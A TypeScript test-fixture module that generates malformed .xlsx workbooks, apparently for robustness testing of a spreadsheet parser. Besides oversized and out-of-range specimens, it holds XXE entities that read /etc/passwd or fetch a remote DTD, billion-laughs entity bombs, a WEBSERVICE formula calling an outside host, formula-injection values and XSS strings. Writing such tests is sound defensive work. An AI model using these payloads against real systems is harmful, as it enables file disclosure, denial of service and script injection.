import { xlsxOf } from "../support/office.ts";
import { type Specimen, specimen, WRONG_ROWS } from "./specimen.ts";

const inline = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

const cell = (place: string, text: string): string =>
  /^-?\d/.test(text) ? `<c r="${place}"><v>${text}</v></c>` : `<c r="${place}" t="inlineStr"><is><t>${inline(text)}</t></is></c>`;

/** The rows of the wrong statement, some of its words put in place of others. */
const rows = (words: { readonly [label: string]: string } = {}): string =>
  WRONG_ROWS.map(
    (line, row) =>
      `<row r="${row + 1}">${line.map((text, column) => cell(`${"ABCD"[column]}${row + 1}`, words[text] ?? text)).join("")}</row>`,
  ).join("");

const data = (more = ""): string => `<sheetData>${rows()}${more}</sheetData>`;
const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const part = (root: string, content: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><${root} xmlns="${MAIN}">${content}</${root}>`;
const strings = (content: string): { readonly [name: string]: string } => ({
  "xl/sharedStrings.xml": part("sst", content),
  "xl/_rels/workbook.xml.rels":
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
});
const doctype = (declared: string, text: string): string =>
  `<?xml version="1.0"?><!DOCTYPE worksheet [${declared}]><worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`;
const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join("");

/** Workbooks whose parts are well packed and say absurd things. */
export function sheets(): Specimen[] {
  const sheet = (name: string, content: string, parts = {}): Specimen => specimen("workbook", `${name}.xlsx`, xlsxOf(content, parts));
  const merges = (list: readonly string[]): string =>
    `<mergeCells count="${list.length}">${list.map((ref) => `<mergeCell ref="${ref}"/>`).join("")}</mergeCells>`;
  return [
    sheet("million-columns", `<dimension ref="A1:BDWGN1048576"/>${data()}`),
    sheet("columns-past-the-last", data('<row r="9"><c r="BDWGN9"><v>1</v></c><c r="ZZZZZZ9"><v>2</v></c></row>')),
    sheet("last-cell", `<dimension ref="A1:XFD1048576"/>${data('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}`),
    sheet("row-past-the-last", data('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>')),
    sheet("row-below-zero", data('<row r="-5"><c r="A-5"><v>1</v></c><c r="A0"><v>1</v></c><c r="0"><v>1</v></c></row>')),
    sheet("no-places", data(`<row>${"<c><v>1</v></c>".repeat(2000)}</row>`)),
    sheet("wide-columns", `<cols><col min="1" max="16384" width="9"/><col min="1" max="4294967295" hidden="1"/></cols>${data()}`),
    sheet("million-blank-rows", data('<row ht="12"/>'.repeat(1_000_000))),
    sheet(
      "scattered",
      data(
        Array.from(
          { length: 400 },
          (_, n) => `<row r="${(n + 2) * 2600}"><c r="${"ABCDEFGHIJ"[n % 10]}XA${(n + 2) * 2600}"><v>${n}</v></c></row>`,
        ).join(""),
      ),
    ),
    sheet("merged-whole", `${data()}${merges(["A1:XFD1048576"])}`),
    sheet("merged-often", `${data()}${merges(Array.from({ length: 3000 }, () => "A1:XFD1048576"))}`),
    sheet("merged-oddly", `${data()}${merges(["D9:A1", "A1", "", "A0:B-1", "ZZZZ1:ZZZZZ9", "1:1048576", "A:XFD"])}`),
    sheet(
      "string-out-of-range",
      data('<row r="9"><c r="A9" t="s"><v>999999999</v></c><c r="B9" t="s"><v>-1</v></c><c r="C9" t="s"><v>x</v></c></row>'),
      strings("<si><t>a</t></si>"),
    ),
    sheet("strings-miscounted", data(), strings("<si><t>甲</t></si><si/>")),
    sheet("style-out-of-range", data('<row r="9"><c r="A9" s="999999999"><v>1</v></c><c r="B9" s="-1"><v>1</v></c></row>')),
    sheet(
      "odd-values",
      data(
        '<row r="9"><c r="A9"><v>1e999999</v></c><c r="B9"><v>NaN</v></c><c r="C9"><v>0x1F</v></c><c r="D9"><v></v></c><c r="E9" t="b"><v>7</v></c><c r="F9" t="e"><v>#X</v></c><c r="G9" t="d"><v>no date</v></c></row>',
      ),
    ),
    sheet("digits", data(`<row r="9"><c r="A9"><v>${"9".repeat(200_000)}</v></c><c r="B9"><v>0.${"0".repeat(200_000)}1</v></c></row>`)),
    sheet("deep-formula", data(`<row r="9"><c r="A9"><f>${"(".repeat(20_000)}1${")".repeat(20_000)}</f><v>1</v></c></row>`)),
    sheet("circular-formula", data('<row r="9"><c r="A9"><f>B9</f><v>1</v></c><c r="B9"><f>A9+SUM(A1:XFD1048576)</f><v>1</v></c></row>')),
    sheet(
      "shared-formula",
      data(
        '<row r="9"><c r="A9"><f t="shared" ref="A1:XFD1048576" si="0">B9</f><v>1</v></c><c r="B9"><f t="shared" si="99"/><v>1</v></c></row>',
      ),
    ),
    sheet("long-formula", data(`<row r="9"><c r="A9"><f>${"A1+".repeat(100_000)}1</f><v>1</v></c></row>`)),
    sheet(
      "calling-formula",
      data(
        '<row r="9"><c r="A9"><f>WEBSERVICE("http://198.51.100.1/")</f><v>1</v></c><c r="B9"><f>HYPERLINK("file:///etc/passwd")</f><v>1</v></c></row>',
      ),
    ),
    sheet("odd-formats", data('<row r="9"><c r="A9" s="1"><v>1</v></c></row>'), {
      "xl/styles.xml": part(
        "styleSheet",
        `<numFmts><numFmt numFmtId="200" formatCode="${"[&gt;1]0;".repeat(500)}${"#".repeat(5000)}"/></numFmts><cellXfs><xf/><xf numFmtId="200"/></cellXfs>`,
      ),
    }),
    sheet("no-styles", data('<row r="9"><c r="A9" s="3"><v>1</v></c></row>'), { "xl/styles.xml": "<" }),
    sheet("sheet-names", data(), {
      "xl/workbook.xml": `<workbook xmlns="${MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>
        <sheet name="&lt;script&gt;alert(1)&lt;/script&gt;../../=1+1" sheetId="1" r:id="rId1"/><sheet name="" sheetId="2" r:id="rId9"/>
        <sheet name="表" sheetId="x" r:id="rId1" state="veryHidden"/></sheets></workbook>`,
    }),
    sheet("outside-links", `${data()}<hyperlinks><hyperlink ref="A1" location="javascript:alert(1)"/></hyperlinks>`, {
      "xl/externalLinks/externalLink1.xml": part("externalLink", "<externalBook/>"),
      "xl/worksheets/_rels/sheet1.xml.rels":
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" Type="x/hyperlink" Target="http://198.51.100.1/"/></Relationships>',
    }),
    sheet("entity", "", { "xl/worksheets/sheet1.xml": doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;") }),
    sheet("entity-from-net", "", { "xl/worksheets/sheet1.xml": doctype('<!ENTITY % x SYSTEM "http://198.51.100.1/x.dtd">%x;', "a") }),
    sheet("entity-bomb", "", { "xl/worksheets/sheet1.xml": doctype(`<!ENTITY e0 "十">${laughs}`, "&e9;") }),
    sheet("entity-bomb-in-strings", data(), {
      ...strings(""),
      "xl/sharedStrings.xml": `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY e0 "十">${laughs}]><sst xmlns="${MAIN}"><si><t>&e9;</t></si></sst>`,
    }),
    sheet("unknown-entity", data("<row r='9'><c r='A9' t='inlineStr'><is><t>&nbsp;</t></is></c></row>")),
    sheet("many-attributes", `<sheetData ${Array.from({ length: 100_000 }, (_, n) => `a${n}="1"`).join(" ")}>${rows()}</sheetData>`),
    sheet("deep-elements", `${data()}<extLst>${"<ext>".repeat(100_000)}${"</ext>".repeat(100_000)}</extLst>`),
    sheet("long-name", `${data()}<${"x".repeat(1_000_000)}/>`),
    sheet("long-text", data(`<row r="9">${cell("A9", "长".repeat(1_000_000))}</row>`)),
    sheet("formula-like", `<sheetData>${rows({ 甲: "=1+1", 乙: "@SUM(A1)", 丙: "+HYPERLINK(1)", 单位: "-2+3" })}</sheetData>`),
    sheet(
      "script",
      `<sheetData>${rows({ 甲: "<script>alert(1)</script>", 乙: '"><img src=x onerror=alert(1)>', 丙: "javascript:alert(1)" })}</sheetData>`,
    ),
  ];
}
